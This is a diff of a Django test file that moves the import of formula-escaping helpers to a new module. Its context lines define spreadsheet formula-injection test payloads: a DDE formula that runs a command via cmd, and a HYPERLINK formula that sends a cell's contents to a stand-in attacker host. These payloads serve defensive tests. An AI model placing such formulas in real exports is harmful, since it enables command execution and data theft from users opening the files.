@@ -9,8 +9,8 @@ import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
-from hnda_site.spreadsheets import escape_formula, unescape_formula
 from members.models import Member
+from spreadsheets.formats import escape_formula, unescape_formula
 
 DDE = "=cmd|' /C calc'!A0"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
